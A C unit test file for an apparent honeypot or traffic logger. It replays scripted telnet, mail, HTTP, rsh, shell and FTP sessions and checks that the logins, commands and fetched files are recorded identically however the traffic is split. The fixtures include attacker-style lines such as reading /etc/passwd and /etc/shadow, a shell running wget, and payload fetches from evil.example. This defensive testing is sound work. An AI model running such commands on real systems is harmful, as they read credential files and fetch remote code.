/* SPDX-License-Identifier: BSD-2-Clause */
/* Scripted conversations, each cut into pieces of every size: what is told must be the same. */
#include "talk/test/wire.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#define SAYS 24u

struct say {
	unsigned side;
	const char *text;
	uint32_t len; /* 0: up to its zero byte */
};
struct script {
	uint16_t port;
	bool by_guest;
	struct say say[SAYS];
};

static struct talk *talk_new(struct session_book *b, bool sessions);

struct sys { /* syslog messages */
	char text[8192];
	struct writer w;
};

static void on_syslog(void *ctx, uint32_t guest, uint64_t flow_id, const char *data, size_t len,
		      bool cut)
{
	struct sys *s = ctx;
	write_fmt(&s->w, "%u %u %u %s", guest, (unsigned)flow_id, (unsigned)len, cut ? "cut " : "");
	write_escaped(&s->w, data, len < 64 ? len : 64);
	write_str(&s->w, "\n");
}

static struct sys sink_of_syslog;

static struct talk *talk_new(struct session_book *b, bool sessions)
{
	const struct talk_conf conf = {
		.book = b,
		.sessions = sessions,
		.memory_bytes = (size_t)16 << 20,
		.syslog = on_syslog,
		.ctx = &sink_of_syslog,
	};
	struct talk *t = NULL;
	sink_of_syslog.w = writer_of(sink_of_syslog.text, sizeof(sink_of_syslog.text));
	assert_int_equal(talk_create(&conf, &t), 0);
	return t;
}

static uint32_t length_of(const struct say *s)
{
	return s->len != 0 ? s->len : (uint32_t)strlen(s->text);
}

static void play(struct wire *w, const struct script *s, uint32_t piece)
{
	wire_open(w);
	for (const struct say *y = s->say; y < s->say + SAYS && y->text != NULL; y++)
		for (uint32_t at = 0, len = length_of(y); at < len; at += piece)
			wire_say(w, y->side, y->text + at, len - at < piece ? len - at : piece);
	wire_close(w);
}

static char *run(const struct script *s, bool v6, uint32_t piece)
{
	struct session_book *b = book_new();
	struct talk *t = talk_new(b, true);
	struct wire w = {
		.t = t,
		.v6 = v6,
		.by_guest = s->by_guest,
		.port = {40000, s->port},
		.host = {s->by_guest ? 10 : 66, s->by_guest ? 66 : 10},
		.direction = s->by_guest ? DIR_OUTBOUND : DIR_INBOUND,
	};
	play(&w, s, piece);
	talk_free(&t);
	char *text = strdup(book_text(b));
	book_free(b);
	return text;
}

/* Whole and in pieces of 1 .. 40 bytes, over both IPs. */
static void expect(const struct script *s, const char *wanted)
{
	char *whole = run(s, false, 1400);
	if (strcmp(whole, wanted) != 0)
		fail_msg("told:\n%s\nwanted:\n%s", whole, wanted);
	for (uint32_t piece = 1; piece <= 40; piece++) {
		char *cut = run(s, false, piece);
		if (strcmp(whole, cut) != 0)
			fail_msg("in pieces of %u:\n%s\nwhole:\n%s", piece, cut, whole);
		free(cut);
	}
	char *six = run(s, true, 3);
	assert_non_null(strstr(six, "begin"));
	assert_string_equal(strchr(six, '\n'), strchr(whole, '\n'));
	free(six);
	free(whole);
}

static void telnet(void **state)
{
	static const struct script s = {
		.port = 23,
		.say =
			{
				{SERVER, "\xff\xfd\x18\xff\xfb\x01"},
				{CLIENT, "\xff\xfb\x1f\xff\xfa\x1f\0\x50\0\x18\xff\xf0", 12},
				{CLIENT, "\xff\xfa\x18\0vt100\xff\xf0", 11},
				{SERVER, "Debian\r\nlogin: "},
				{CLIENT, "root\r\0", 6},
				{SERVER, "root\r\nPassword: "},
				{CLIENT, "guess\r\0", 7},
				{SERVER, "\r\nLogin incorrect\r\nlogin: "},
				{CLIENT, "rooo\x7ft\r\n"},
				{SERVER, "Password: "},
				{CLIENT, "hive\xff\xff\r\n"},
				{SERVER, "\r\nLast login: today\r\nroot@h:~# "},
				{CLIENT, "cat /etc/pass\x1b[Dwd\r\n"},
				{SERVER, "cat /etc/passwd\r\nroot:x:0\r\nroot@h:~# "},
				{CLIENT, "exit\r\n"},
				{SERVER, "logout\r\n"},
			},
	};
	(void)state;
	expect(&s, "begin telnet 10.30.0.66>10.30.0.10:23 guest 0 flow 7\n"
		   "size 80x24\nclient vt100\n"
		   "login root / guess\n  0\n"
		   "login root / hive\\xff\n  1\n"
		   "command cat /etc/passwd\n"
		   "command exit\n"
		   "end telnet closed\n"
		   "  shown Debian\\x0d\\x0alogin: root\\x0d\\x0aPassword: \\x0d\\x0aLogin "
		   "incorrect\\x0d"
		   "\\x0alogin: Password: \\x0d\\x0aLast login: today\\x0d\\x0aroot@h:~# "
		   "cat /etc/passwd\\x0d\\x0aroot:x:0\\x0d\\x0aroot@h:~# logout\\x0d\\x0a\n"
		   "  typed root\\x0d\\x00guess\\x0d\\x00rooo\\x7ft\\x0d\\x0ahive\\xff\\x0d\\x0a"
		   "cat /etc/pass\\x1b[Dwd\\x0d\\x0aexit\\x0d\\x0a\n");
}

static void keys_of_full_screen_programs_are_no_commands(void **state)
{
	static const struct script s = {
		.port = 23,
		.say =
			{
				{SERVER, "# "},
				{CLIENT, "vi x\r\n"},
				{SERVER, "\033[1;1H\033[?1049h\033[H~"},
				{CLIENT, "ihello\r\n\033:wq\r\n"},
				{SERVER, "\033[?1049l# "},
				{CLIENT, "ls\r\n"},
				{SERVER, "\033[?25h# "},
			},
	};
	(void)state;
	char *text = run(&s, false, 1400);
	assert_non_null(strstr(text, "command vi x\ncommand ls\nend"));
	free(text);
	text = run(&s, false, 1);
	assert_non_null(strstr(text, "command vi x\ncommand ls\nend"));
	free(text);
}

static void smtp(void **state)
{
	static const struct script s = {
		.port = 25,
		.say =
			{
				{SERVER, "220 mail ESMTP\r\n"},
				{CLIENT, "EHLO x\r\n"},
				{SERVER, "250-mail\r\n250 AUTH PLAIN LOGIN\r\n"},
				{CLIENT, "AUTH LOGIN\r\n"},
				{SERVER, "334 VXNlcm5hbWU6\r\n"},
				{CLIENT, "cm9vdA==\r\n"},
				{SERVER, "334 UGFzc3dvcmQ6\r\n"},
				{CLIENT, "c2VjcmV0\r\n"},
				{SERVER, "535 no\r\n"},
				{CLIENT, "AUTH PLAIN AHJvb3QAaGl2ZQ==\r\n"},
				{SERVER, "235 yes\r\n"},
				{CLIENT, "DATA\r\n"},
				{SERVER, "354 go on\r\n"},
				{CLIENT, "RSET\r\n..\r\n.\r\nQUIT\r\n"},
				{SERVER, "250 ok\n"},
			},
	};
	(void)state;
	expect(&s,
	       "begin smtp 10.30.0.66>10.30.0.10:25 guest 0 flow 7\n"
	       "command EHLO x\n"
	       "login root / secret\n  0\n"
	       "login root / hive\n  1\n"
	       "command DATA\n"
	       "command QUIT\n"
	       "end smtp closed\n"
	       "  shown 220 mail ESMTP\\x0d\\x0a250-mail\\x0d\\x0a250 AUTH PLAIN "
	       "LOGIN\\x0d\\x0a334 "
	       "VXNlcm5hbWU6\\x0d\\x0a334 UGFzc3dvcmQ6\\x0d\\x0a535 no\\x0d\\x0a235 "
	       "yes\\x0d\\x0a354 go "
	       "on\\x0d\\x0a250 ok\\x0d\\x0a\n"
	       "  typed EHLO x\\x0d\\x0aAUTH "
	       "LOGIN\\x0d\\x0acm9vdA==\\x0d\\x0ac2VjcmV0\\x0d\\x0aAUTH "
	       "PLAIN "
	       "AHJvb3QAaGl2ZQ==\\x0d\\x0aDATA\\x0d\\x0aRSET\\x0d\\x0a..\\x0d\\x0a.\\x0d\\x0aQUIT"
	       "\\x0d\\x0a\n");
}

static void pop3_and_imap(void **state)
{
	static const struct script pop = {
		.port = 110,
		.say = {{SERVER, "+OK hi\r\n"},
			{CLIENT, "USER bob\r\n"},
			{SERVER, "+OK\r\n"},
			{CLIENT, "PASS two words\r\n"},
			{SERVER, "-ERR no\r\n"},
			{CLIENT, "STLS\r\n"},
			{SERVER, "+OK\r\n"},
			{CLIENT, "\x16\x03\x01 nothing for us"}},
	};
	static const struct script imap = {
		.port = 143,
		.say = {{SERVER, "* OK hi\r\n"},
			{CLIENT, "a1 LOGIN \"bob\" \"a\\\"b c\"\r\n"},
			{SERVER, "* CAP\r\na1 NO\r\n"},
			{CLIENT, "a2 authenticate plain\r\n"},
			{SERVER, "+\r\n"},
			{CLIENT, "AHJvb3QAaGl2ZQ==\r\n"},
			{SERVER, "a2 OK\r\n"}},
	};
	(void)state;
	expect(&pop, "begin pop3 10.30.0.66>10.30.0.10:110 guest 0 flow 7\n"
		     "command USER bob\n"
		     "login bob / two words\n  0\n"
		     "command STLS\n"
		     "mark encrypted from here\n"
		     "end pop3 closed\n"
		     "  shown +OK hi\\x0d\\x0a+OK\\x0d\\x0a-ERR no\\x0d\\x0a+OK\\x0d\\x0a\n"
		     "  typed USER bob\\x0d\\x0aPASS two words\\x0d\\x0aSTLS\\x0d\\x0a\n");
	expect(&imap,
	       "begin imap 10.30.0.66>10.30.0.10:143 guest 0 flow 7\n"
	       "login bob / a\"b c\n  0\n"
	       "login root / hive\n  1\n"
	       "end imap closed\n"
	       "  shown * OK hi\\x0d\\x0a* CAP\\x0d\\x0aa1 NO\\x0d\\x0a+\\x0d\\x0aa2 OK\\x0d\\x0a\n"
	       "  typed a1 LOGIN \"bob\" \"a\\\\\"b c\"\\x0d\\x0aa2 authenticate "
	       "plain\\x0d\\x0aAHJvb3QAaGl2ZQ==\\x0d\\x0a\n");
}

static void http(void **state)
{
	static const struct script fetch = {
		.port = 80,
		.by_guest = true,
		.say = {{CLIENT, "GET /bins/x.sh HTTP/1.1\r\nHost: evil.example\r\n\r\n"},
			{SERVER, "HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\n#!\n\0\xff\n", 44},
			{CLIENT, "GET /y HTTP/1.1\r\nHost: evil.example\r\n\r\n"},
			{SERVER, "HTTP/1.1 404 No\r\nContent-Length: 2\r\n\r\nno"},
			{CLIENT, "GET /z HTTP/1.1\r\nHost: evil.example\r\n\r\n"},
			{SERVER, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
				 "3;x=y\r\nabc\r\n1\r\nd\r\n0\r\n\r\n"},
			{CLIENT, "GET /end HTTP/1.0\r\n\r\n"},
			{SERVER, "HTTP/1.0 200 OK\r\n\r\nup to the end"}},
	};
	static const struct script login = {
		.port = 8080,
		.say = {{CLIENT, "GET /admin HTTP/1.1\r\nUser-Agent: zgrab/0.x\r\nauthorization: "
				 "Basic YWRtaW46YTpi\r\n\r\n"},
			{SERVER, "HTTP/1.1 401 No\r\nContent-Length: 1\r\n\r\nx"},
			{CLIENT, "POST /login HTTP/1.1\r\nContent-Type: "
				 "application/x-www-form-urlencoded\r\nContent-Length: "
				 "26\r\n\r\nusername=ro%6Ft&pwd=a+%41b"},
			{SERVER, "HTTP/1.1 200 Yes\r\nContent-Length: 4\r\n\r\nmine"},
			{CLIENT, "PUT /up.php HTTP/1.1\r\nContent-Length: 5\r\n\r\n<?php"},
			{SERVER, "HTTP/1.1 201 Yes\r\nContent-Length: 0\r\n\r\n"}},
	};
	(void)state;
	expect(&fetch, "begin http 10.30.0.10>10.30.0.66:80 guest 0 flow 7\n"
		       "file fetched 6 x.sh http://evil.example/bins/x.sh\n"
		       "  whole #!\\x0a\\x00\\xff\\x0a\n"
		       "file fetched 0 z http://evil.example/z\n"
		       "  whole abcd\n"
		       "file fetched 0 end http:///end\n"
		       "  whole up to the end\n"
		       "end http closed\n  shown \n  typed \n");
	expect(&login, "begin http 10.30.0.66>10.30.0.10:8080 guest 0 flow 7\n"
		       "login admin / a:b\n  0\nclient zgrab/0.x\n"
		       "login root / a Ab\n  -1\n"
		       "file uploaded 5 up.php http:///up.php\n"
		       "  whole <?php\n"
		       "end http closed\n  shown \n  typed \n");
}

static void shells(void **state)
{
	static const struct script bound = {
		.port = 4444,
		.say = {{CLIENT, "id\n"},
			{SERVER, "uid=0(root)\n"},
			{CLIENT, "uname -a\n"},
			{SERVER, "Linux\n"}},
	};
	static const struct script back = {
		.port = 443,
		.by_guest = true,
		.say = {{CLIENT, "sh: no job control\n$ "},
			{SERVER, "cd /tmp\n"},
			{CLIENT, "$ "},
			{SERVER, "wget http://x/y\n"}},
	};
	static const struct script other = {
		.port = 6379,
		.say = {{CLIENT, "PING\r\n"}, {SERVER, "+PONG\r\n"}},
	};
	(void)state;
	expect(&bound, "begin shell 10.30.0.66>10.30.0.10:4444 guest 0 flow 7\n"
		       "command id\ncommand uname -a\nend shell closed\n"
		       "  shown uid=0(root)\\x0d\\x0aLinux\\x0d\\x0a\n"
		       "  typed id\\x0auname -a\\x0a\n");
	expect(&back, "begin shell 10.30.0.10>10.30.0.66:443 guest 0 flow 7\n"
		      "command cd /tmp\ncommand wget http://x/y\nend shell closed\n"
		      "  shown sh: no job control\\x0d\\x0a$ $ \n"
		      "  typed cd /tmp\\x0awget http://x/y\\x0a\n");
	expect(&other, "begin text 10.30.0.66>10.30.0.10:6379 guest 0 flow 7\nend text closed\n"
		       "  shown +PONG\\x0d\\x0a\n  typed PING\\x0d\\x0a\n");
}

static void remote(void **state)
{
	static const struct script rlogin = {
		.port = 513,
		.say = {{CLIENT, "\0me\0root\0xterm/38400\0", 21},
			{SERVER, "\0Password: ", 11},
			{CLIENT, "\xff\xffss\0\x18\0\x50\0\0\0\0pw\r", 15},
			{SERVER, "\r\n# "},
			{CLIENT, "ls\r"}},
	};
	static const struct script rsh = {
		.port = 514,
		.say = {{CLIENT, "1022\0me\0root\0cat /etc/shadow\0", 29},
			{SERVER, "\0root:*\n", 8}},
	};
	(void)state;
	expect(&rlogin,
	       "begin rlogin 10.30.0.66>10.30.0.10:513 guest 0 flow 7\n"
	       "login root / \n  -1\nsize 80x24\nlogin root / pw\n  1\ncommand ls\n"
	       "end rlogin closed\n  shown Password: \\x0d\\x0a# \n  typed pw\\x0dls\\x0d\n");
	expect(&rsh, "begin rsh 10.30.0.66>10.30.0.10:514 guest 0 flow 7\n"
		     "login root / \n  -1\ncommand cat /etc/shadow\n"
		     "end rsh closed\n  shown root:*\\x0d\\x0a\n  typed \n");
}

static void what_is_no_clear_text_is_let_go_of(void **state)
{
	static const struct script all[] = {
		{.port = 22, .say = {{SERVER, "SSH-2.0-x\r\n"}, {CLIENT, "SSH-2.0-y\r\n"}}},
		{.port = 443, .say = {{CLIENT, "\x16\x03\x01\x02\0\x01", 6}}},
		{.port = 4444, .say = {{CLIENT, "\x7f\x45LF\0\0", 6}, {SERVER, "x\n"}}},
		{.port = 80,
		 .say = {{CLIENT, "GET / HTTP/1.0\r\n\r\n"},
			 {SERVER, "HTTP/1.0 200 OK\r\n\r\npage"}}},
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(all); i++)
		for (uint32_t piece = 1; piece < 20; piece++) {
			char *text = run(&all[i], false, piece);
			assert_string_equal(text, "");
			free(text);
		}
}

/* Who greets without end and is never answered is not waited for. */
static void nobody_is_waited_for_without_end(void **state)
{
	struct session_book *b = book_new();
	struct talk *t = talk_new(b, true);
	struct wire w = {.t = t, .port = {40000, 21}, .host = {66, 10}, .direction = DIR_INBOUND};
	char line[1000];
	(void)state;
	memset(line, 'x', sizeof(line));
	memcpy(line, "220-", 4);
	line[sizeof(line) - 1] = '\n';
	wire_open(&w);
	for (unsigned i = 0; i < 20; i++)
		wire_say(&w, SERVER, line, sizeof(line));
	wire_say(&w, CLIENT, "USER x\r\n", 8);
	wire_say(&w, SERVER, "331\r\n", 5);
	wire_close(&w);
	talk_free(&t);
	assert_string_equal(book_text(b), "");
	book_free(b);
}

/* ---- FTP, with a data connection beside it --------------------------------------------------------------- */

static char *ftp_run(uint32_t piece, bool active)
{
	struct session_book *b = book_new();
	struct talk *t = talk_new(b, true);
	struct wire w = {.t = t,
			 .by_guest = true,
			 .port = {40000, 21},
			 .host = {10, 66},
			 .direction = DIR_OUTBOUND};
	struct wire d = w;
	const struct script login = {.say = {{SERVER, "220 ftp\r\n"},
					     {CLIENT, "USER anonymous\r\n"},
					     {SERVER, "331 yes?\r\n"},
					     {CLIENT, "PASS me@\r\n"},
					     {SERVER, "230-hi\r\n230 in\r\n"}}};
	const struct say pasv[] = {{CLIENT, "PASV\r\n"},
				   {SERVER, "227 Entering (10,30,0,66,195,80)\r\n"},
				   {CLIENT, "RETR bot.bin\r\n"},
				   {SERVER, "150 here\r\n"}};
	const struct say port[] = {{CLIENT, "PORT 10,30,0,10,195,80\r\n"},
				   {SERVER, "200 ok\r\n"},
				   {CLIENT, "RETR bot.bin\r\n"},
				   {SERVER, "150 here\r\n"}};
	const struct say *more = active ? port : pasv;
	wire_open(&w);
	for (size_t i = 0; i < 9; i++) {
		const struct say *y = i < 5 ? &login.say[i] : &more[i - 5];
		for (uint32_t at = 0, len = length_of(y); at < len; at += piece)
			wire_say(&w, y->side, y->text + at, len - at < piece ? len - at : piece);
	}
	d.flow_id = 8;
	d.now_ns = w.now_ns;
	d.port[0] = active ? 20 : 40001;
	d.port[1] = 50000;
	if (active) {
		d.by_guest = false;
		d.host[0] = 66;
		d.host[1] = 10;
	}
	wire_open(&d);
	wire_say(&d, active ? CLIENT : SERVER,
		 "\x7f"
		 "ELF\0\1",
		 6);
	wire_close(&d);
	wire_say(&w, SERVER, "226 done\r\n", 10);
	wire_close(&w);
	talk_free(&t);
	char *text = strdup(book_text(b));
	book_free(b);
	return text;
}

static void ftp(void **state)
{
	(void)state;
	for (unsigned active = 0; active < 2; active++) {
		char *whole = ftp_run(1400, active != 0);
		assert_non_null(strstr(whole, "begin ftp 10.30.0.10>10.30.0.66:21"));
		assert_non_null(strstr(whole, "login anonymous / me@\n  1\n"));
		assert_non_null(strstr(whole, "command RETR bot.bin\n"));
		assert_non_null(strstr(whole, "file fetched 0 bot.bin ftp://10.30.0.66/bot.bin\n"
					      "  whole \\x7fELF\\x00\\x01\n"));
		assert_null(strstr(whole, "begin ftp-data"));
		for (uint32_t piece = 1; piece < 40; piece++) {
			char *cut = ftp_run(piece, active != 0);
			assert_string_equal(cut, whole);
			free(cut);
		}
		free(whole);
	}
}

/* ---- what was lost ------------------------------------------------------------------------------------------ */

static void holes_are_marked(void **state)
{
	struct session_book *b = book_new();
	struct talk *t = talk_new(b, true);
	struct wire w = {.t = t, .port = {40000, 4444}, .host = {66, 10}, .direction = DIR_INBOUND};
	(void)state;
	wire_open(&w);
	wire_say(&w, CLIENT, "id\n", 3);
	wire_say(&w, SERVER, "uid=0\n", 6);
	wire_say(&w, CLIENT, "half of a", 9);
	wire_lose(&w, CLIENT, 100);
	wire_say(&w, CLIENT, "ls\n", 3);
	wire_say(&w, CLIENT, "w\n", 2);
	wire_close(&w);
	talk_free(&t);
	assert_non_null(strstr(book_text(b), "command id\n"));
	assert_non_null(strstr(book_text(b), "mark gap\n"));
	assert_non_null(strstr(book_text(b), "command w\n"));
	assert_null(strstr(book_text(b), "half of a\n"));
	book_free(b);
}

static void picked_up_in_the_middle(void **state)
{
	struct session_book *b = book_new();
	struct talk *t = talk_new(b, true);
	struct wire w = {.t = t,
			 .port = {40000, 4444},
			 .host = {66, 10},
			 .direction = DIR_INBOUND,
			 .flow_id = 7,
			 .now_ns = NS_PER_SEC,
			 .seq = {5000, 6000}};
	(void)state;
	wire_say(&w, SERVER, "sh: who are you\n# ", 18);
	wire_say(&w, CLIENT, "whoami\n", 7);
	wire_say(&w, SERVER, "root\n# ", 7);
	wire_close(&w);
	talk_free(&t);
	assert_non_null(strstr(book_text(b), "begin shell 10.30.0.66>10.30.0.10:4444"));
	assert_non_null(strstr(book_text(b), "command whoami\n"));
	book_free(b);
}

/* ---- syslog -------------------------------------------------------------------------------------------------- */

static void syslog_by_both(void **state)
{
	char big[9000];
	struct session_book *b = book_new();
	struct talk *t = talk_new(b, false);
	(void)state;
	memset(big, 'x', sizeof(big));
	wire_datagram(t, false, 1, 514, "<13>hello\x1b", 10);
	wire_datagram(t, true, 3, 514, "<13>six", 7);
	wire_datagram(t, false, 1, 515, "<13>elsewhere", 13);
	wire_datagram(t, false, 1, 514, big, sizeof(big));
	struct wire w = {.t = t,
			 .by_guest = true,
			 .port = {40000, 514},
			 .host = {10, 20},
			 .direction = DIR_LATERAL};
	wire_open(&w);
	wire_say(&w, CLIENT, "<13>one\n5 <1>ab<13>th", 21);
	wire_say(&w, CLIENT, "ree\n<13>left", 12);
	wire_close(&w);
	struct wire shell = {
		.t = t, .port = {40000, 4444}, .host = {66, 10}, .direction = DIR_INBOUND};
	wire_open(&shell);
	wire_say(&shell, CLIENT, "id\n", 3);
	wire_say(&shell, SERVER, "uid=0\n", 6);
	wire_close(&shell);
	struct talk_stats stats;
	talk_read_stats(t, &stats);
	assert_int_equal(stats.syslog, 7);
	talk_free(&t);
	assert_string_equal(book_text(b), ""); /* sessions are off */
	assert_string_equal(
		sink_of_syslog.text,
		"0 9 10 <13>hello\\x1b\n2 9 7 <13>six\n"
		"0 9 8192 cut xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"
		"0 7 7 <13>one\n0 7 5 <1>ab\n0 7 9 <13>three\n0 7 8 <13>left\n");
	book_free(b);
}

/* More conversations than memory has room for: some are refused, none is half told. */
static void memory_is_bounded(void **state)
{
	struct session_book *b = book_new();
	const struct talk_conf conf = {.book = b,
				       .sessions = true,
				       .memory_bytes = 1u << 20,
				       .syslog = on_syslog,
				       .ctx = &sink_of_syslog};
	struct talk *t = NULL;
	(void)state;
	sink_of_syslog.w = writer_of(sink_of_syslog.text, sizeof(sink_of_syslog.text));
	assert_int_equal(talk_create(&conf, &t), 0);
	char junk[1400];
	memset(junk, 'a', sizeof(junk));
	for (unsigned i = 0; i < 3000; i++) {
		struct wire w = {.t = t,
				 .port = {(uint16_t)(1024 + i), 4444},
				 .host = {66, 10},
				 .direction = DIR_INBOUND,
				 .now_ns = NS_PER_SEC + i};
		wire_open(&w);
		wire_say(&w, CLIENT, junk, sizeof(junk));
	}
	struct talk_stats stats;
	talk_read_stats(t, &stats);
	assert_true(stats.frames >= 3000);
	talk_tick(t, 100000 * NS_PER_SEC); /* all are over */
	struct wire w = {.t = t,
			 .port = {40000, 4444},
			 .host = {66, 10},
			 .direction = DIR_INBOUND,
			 .now_ns = 200000 * NS_PER_SEC};
	for (unsigned i = 0; i < 20; i++)
		talk_tick(t, 200000 * NS_PER_SEC);
	wire_open(&w);
	wire_say(&w, CLIENT, "id\n", 3);
	wire_say(&w, SERVER, "uid=0\n", 6);
	wire_close(&w);
	talk_free(&t);
	assert_non_null(strstr(book_text(b), "command id\n"));
	book_free(b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(telnet),
		cmocka_unit_test(keys_of_full_screen_programs_are_no_commands),
		cmocka_unit_test(smtp),
		cmocka_unit_test(pop3_and_imap),
		cmocka_unit_test(http),
		cmocka_unit_test(shells),
		cmocka_unit_test(remote),
		cmocka_unit_test(what_is_no_clear_text_is_let_go_of),
		cmocka_unit_test(nobody_is_waited_for_without_end),
		cmocka_unit_test(ftp),
		cmocka_unit_test(holes_are_marked),
		cmocka_unit_test(picked_up_in_the_middle),
		cmocka_unit_test(syslog_by_both),
		cmocka_unit_test(memory_is_bounded),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
